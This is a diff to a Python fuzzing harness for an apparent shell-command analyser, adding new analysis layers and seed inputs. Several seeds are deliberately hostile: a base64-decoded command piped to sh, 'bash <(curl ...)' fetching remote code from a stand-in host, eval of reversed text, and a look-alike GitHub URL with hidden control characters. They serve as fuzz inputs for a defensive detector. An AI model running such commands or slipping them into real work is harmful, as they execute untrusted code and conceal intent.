@@ -20,15 +20,20 @@ except ImportError:
 
 if atheris:
     with atheris.instrument_imports(include=["wrapify"]):
-        from wrapify.analysis import shell
+        from wrapify.analysis import characters, fish, hosts, reveal, shell
+        from wrapify.analysis.analyse import analyse
 else:
-    from wrapify.analysis import shell
+    from wrapify.analysis import characters, fish, hosts, reveal, shell
+    from wrapify.analysis.analyse import analyse
 
 SLOWEST = 2.0  # seconds of processor time for one input, with the instruments in
 SEEDS = (
     b"a b | c && d; $(e `f`) \"g $(h)\" 'i' \\j ${k:-l} $((m+1)) <<N >o 2>&1\np\nN\n",
     b"if a; then b; elif c; then d; fi; for x in y; do z; done; while a; do b; done; case a in b|c) d;; esac",
     b"f() { a; }; function g { b; }; [[ -n a && b =~ (c) ]]; (( a )); a[1]=b c=(d) {e}>f coproc g { h; }",
+    b'echo c3VkbyBpZAo= | base64 -d | sh; x=su; $x id; bash <(curl https://x.example/i.sh); eval "$(rev <<< x)"',
+    b"ls \xe2\x80\xae \x1b[201~ https://g\xd1\x96thub.com@x.example/ \xf3\xa0\x81\x81 a" + b" " * 120 + b"b",
+    b"python3 -c 'import os; os.system(\"sudo id\")'; find . -exec sh -c 'a' \\; ; a=(b c); ${a[@]}; x=${y//a/b}",
     b"() { a } b; repeat 3 c; if [[ d ]] { e } else { f }; =(g) ${(f)h} *(.) foreach i (j) k; end",
 )
 TOKENS = b"$( $(( ${ ` \" ' \\ ; & | < > << <<- ( ) { } [[ ]] case esac in if fi do done # = [ ] @( $' \n a".split(b" ")
@@ -38,7 +43,33 @@ def reading(dialect: str) -> Callable[[bytes], object]:
     return lambda data: shell.read(data.decode("utf-8", "surrogateescape"), dialect=dialect)
 
 
-LAYERS: dict[str, Callable[[bytes], object]] = {f"read-{one}": reading(one) for one in ("bash", "zsh", "sh")}
+def text(data: bytes) -> str:
+    return data.decode("utf-8", "surrogateescape")
+
+
+def analysing(shell: str) -> Callable[[bytes], object]:
+    def judge(data: bytes) -> None:
+        for finding in analyse(data, shell=shell).findings:
+            if not 0 <= finding.start <= finding.end <= len(data):
+                raise ValueError(f"{finding.rule} points at {finding.start} to {finding.end} of {len(data)} bytes")
+            reveal.excerpt(data, (finding.start, finding.end), width=60)
+
+    return judge
+
+
+def revealing(data: bytes) -> None:
+    if not reveal.reveal(text(data), newlines=False).isprintable():
+        raise ValueError("something that is revealed is not printable")
+
+
+LAYERS: dict[str, Callable[[bytes], object]] = {
+    **{f"read-{one}": reading(one) for one in ("bash", "zsh", "sh")},
+    "read-fish": lambda data: fish.read(text(data)),
+    "characters": lambda data: list(characters.found(text(data))),
+    "hosts": lambda data: list(hosts.found(text(data))),
+    "reveal": revealing,
+    **{f"analyse-{one}": analysing(one) for one in ("bash", "zsh", "fish", "python3")},
+}
 
 
 def try_one(name: str, data: bytes) -> None:
